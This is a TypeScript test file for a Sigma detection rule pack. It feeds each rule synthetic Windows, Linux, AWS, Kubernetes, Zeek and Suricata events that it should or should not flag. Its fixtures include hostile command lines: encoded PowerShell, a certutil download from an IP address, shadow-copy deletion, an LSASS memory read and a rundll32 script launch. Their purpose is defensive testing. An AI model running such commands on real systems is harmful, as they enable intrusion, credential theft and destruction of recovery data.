import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import {
  createRuleset,
  type LogSource,
  parseCorrelations,
  parseRules,
  recognise,
  type SigmaEvent,
} from '@ironbark/sigma';
import { describe, expect, test } from 'vitest';
import { isRuleFile, readPack } from './packs.ts';

const folder = fileURLToPath(new URL('../../../content/rules/ironbark-core/', import.meta.url));
const files = readdirSync(folder)
  .filter(isRuleFile)
  .map((path) => ({ path, text: readFileSync(folder + path, 'utf8') }));
const parsed = parseRules(files);
const matcher = createRuleset(parsed.rules).matcher();

function sysmon(EventID: number, data: Record<string, unknown>): SigmaEvent {
  return seen({
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    EventID,
    Hostname: 'LAB-7',
    ...data,
  });
}
function windows(
  Channel: string,
  SourceName: string,
  EventID: number,
  data: Record<string, unknown> = {},
): SigmaEvent {
  return seen({ Channel, SourceName, EventID, Hostname: 'LAB-7', ...data });
}
function seen(record: unknown): SigmaEvent {
  const view = recognise(record);
  if (view.format === 'unreadable') throw new Error(view.why);
  return view;
}
/** As the normaliser's line maps read it. */
function line(service: string, fields: Record<string, string>): SigmaEvent {
  const logsources: LogSource[] = [{ product: 'linux', service }];
  return { fields, logsources, routeKey: service };
}
const trail = (record: Record<string, unknown>): SigmaEvent =>
  seen({ eventVersion: '1.09', awsRegion: 'ap-southeast-2', eventTime: '2026-03-02T10:00:00Z', ...record });
const exec = (subresource: string): SigmaEvent =>
  seen({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    verb: 'create',
    objectRef: { resource: 'pods', subresource, name: 'api-1' },
  });
const suricata = (severity: number): SigmaEvent =>
  seen({
    timestamp: '2026-03-02T10:00:00Z',
    flow_id: 7,
    event_type: 'alert',
    alert: { severity, signature: 'x' },
  });
const dns = (query: string): SigmaEvent =>
  seen({ _path: 'dns', ts: 1, query, qtype_name: 'TXT', 'id.orig_h': '10.0.0.1' });
const started = (Image: string, CommandLine: string, ParentImage = 'C:\\Windows\\explorer.exe'): SigmaEvent =>
  sysmon(1, { Image, CommandLine, ParentImage });
const system32 = 'C:\\Windows\\System32\\';
const label = 'a'.repeat(60);

/** Per rule file: events it must see, and their harmless neighbours. */
const cases: Record<string, { sees: SigmaEvent[]; ignores: SigmaEvent[] }> = {
  win_encoded_powershell: {
    sees: [
      started(
        `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
        'powershell.exe -NoP -EncodedCommand SQBFAFgA',
      ),
      sysmon(1, {
        Image: 'C:\\x\\renamed.exe',
        OriginalFileName: 'PowerShell.EXE',
        CommandLine: 'renamed /enc SQBFAFgA',
      }),
    ],
    ignores: [
      started(`${system32}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -File backup.ps1'),
      started(
        `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
        'powershell.exe -enc AAAA',
        'C:\\Windows\\CCM\\CcmExec.exe',
      ),
    ],
  },
  win_office_starts_script_host: {
    sees: [
      started(
        `${system32}cmd.exe`,
        'cmd /c x',
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      ),
    ],
    ignores: [started(`${system32}cmd.exe`, 'cmd /c x')],
  },
  win_certutil_download: {
    sees: [started(`${system32}certutil.exe`, 'certutil -urlcache -split -f http://203.0.113.7/a b')],
    ignores: [started(`${system32}certutil.exe`, 'certutil -hashfile C:\\a.exe SHA256')],
  },
  win_rundll32_script: {
    sees: [
      started(`${system32}rundll32.exe`, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x'),
    ],
    ignores: [started(`${system32}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL')],
  },
  win_task_at_logon_from_user_folder: {
    sees: [
      started(`${system32}schtasks.exe`, 'schtasks /create /tn X /tr C:\\Users\\Public\\u.exe /sc onlogon'),
    ],
    ignores: [started(`${system32}schtasks.exe`, 'schtasks /create /tn X /tr "C:\\Program Files\\A\\a.exe"')],
  },
  win_shadow_copies_deleted: {
    sees: [
      started(`${system32}vssadmin.exe`, 'vssadmin delete shadows /all /quiet'),
      started(`${system32}wbem\\wmic.exe`, 'wmic shadowcopy delete'),
    ],
    ignores: [started(`${system32}vssadmin.exe`, 'vssadmin list shadows')],
  },
  win_lsass_memory_read: {
    sees: [
      sysmon(10, {
        SourceImage: 'C:\\Users\\Public\\u.exe',
        TargetImage: `${system32}lsass.exe`,
        GrantedAccess: '0x1410',
      }),
    ],
    ignores: [
      sysmon(10, {
        SourceImage: `${system32}svchost.exe`,
        TargetImage: `${system32}lsass.exe`,
        GrantedAccess: '0x1410',
      }),
      sysmon(10, {
        SourceImage: 'C:\\Users\\Public\\u.exe',
        TargetImage: `${system32}lsass.exe`,
        GrantedAccess: '0x1000',
      }),
    ],
  },
  win_program_in_public_folder: {
    sees: [sysmon(11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\Public\\upd.exe' })],
    ignores: [
      sysmon(11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\Public\\notes.txt' }),
    ],
  },
  win_service_from_temp: {
    sees: [
      windows('System', 'Service Control Manager', 7045, {
        ServiceName: 'W',
        ImagePath: 'C:\\Windows\\Temp\\w.exe -k',
      }),
    ],
    ignores: [
      windows('System', 'Service Control Manager', 7045, {
        ServiceName: 'W',
        ImagePath: 'C:\\Program Files\\w.exe',
      }),
    ],
  },
  win_security_log_cleared: {
    sees: [windows('Security', 'Microsoft-Windows-Eventlog', 1102)],
    ignores: [windows('Security', 'Microsoft-Windows-Eventlog', 1100)],
  },
  win_service_account_remote_desktop: {
    sees: [
      windows('Security', 'Microsoft-Windows-Security-Auditing', 4624, {
        LogonType: '10',
        TargetUserName: 'svc_backup',
      }),
    ],
    ignores: [
      windows('Security', 'Microsoft-Windows-Security-Auditing', 4624, {
        LogonType: '3',
        TargetUserName: 'svc_backup',
      }),
      windows('Security', 'Microsoft-Windows-Security-Auditing', 4624, {
        LogonType: '10',
        TargetUserName: 'j.moreau',
      }),
    ],
  },
  win_defender_disabled: {
    sees: [
      windows('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', 5001),
    ],
    ignores: [
      windows('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', 1001),
    ],
  },
  linux_ssh_failed: {
    sees: [line('sshd', { action: 'failed' })],
    ignores: [line('sshd', { action: 'closed' })],
  },
  linux_ssh_accepted: {
    sees: [line('sshd', { action: 'accepted' })],
    ignores: [line('sshd', { action: 'failed' })],
  },
  linux_root_shell_by_sudo: {
    sees: [line('sudo', { action: 'command', target_user: 'root', command: '/bin/bash' })],
    ignores: [
      line('sudo', { action: 'command', target_user: 'root', command: '/usr/bin/systemctl status chrony' }),
      line('sudo', { action: 'command', target_user: 'backup', command: '/bin/bash' }),
    ],
  },
  zeek_dns_tunnel_name: {
    sees: [dns(`${label}.${label}.t.cdn-metrics.example`)],
    ignores: [dns('www.weather.example'), dns(`${'a'.repeat(30)}.${label}.example`)],
  },
  aws_trail_stopped: {
    sees: [trail({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' })],
    ignores: [
      trail({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', errorCode: 'AccessDenied' }),
      trail({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'DescribeTrails' }),
    ],
  },
  aws_root_sign_in_without_mfa: {
    sees: [rootSignIn('No')],
    ignores: [rootSignIn('Yes')],
  },
  kubernetes_exec_into_pod: { sees: [exec('exec')], ignores: [exec('log')] },
  suricata_severe_alert: { sees: [suricata(1)], ignores: [suricata(3)] },
};

function rootSignIn(MFAUsed: string): SigmaEvent {
  return trail({
    eventSource: 'signin.amazonaws.com',
    eventName: 'ConsoleLogin',
    userIdentity: { type: 'Root' },
    responseElements: { ConsoleLogin: 'Success' },
    additionalEventData: { MFAUsed },
  });
}

const hits = (event: SigmaEvent): string[] =>
  matcher.match(event).map((hit) => hit.rule.file.replace('.yml', ''));

describe("Ironbark's own rules", () => {
  test('all can be used', () => {
    const pack = readPack(files);
    expect(pack.faults).toEqual([]);
    expect(pack.rules).toHaveLength(files.length);
    expect(parseCorrelations(parsed.correlations, parsed.rules).correlations).toHaveLength(4);
  });

  test('each has a case here', () => {
    expect(parsed.rules.map((rule) => rule.file.replace('.yml', '')).sort()).toEqual(
      Object.keys(cases).sort(),
    );
  });

  test.each(Object.entries(cases))(
    '%s sees what it is for, and leaves its neighbours alone',
    (file, { sees, ignores }) => {
      for (const event of sees) expect(hits(event)).toContain(file);
      for (const event of ignores) expect(hits(event)).not.toContain(file);
    },
  );
});
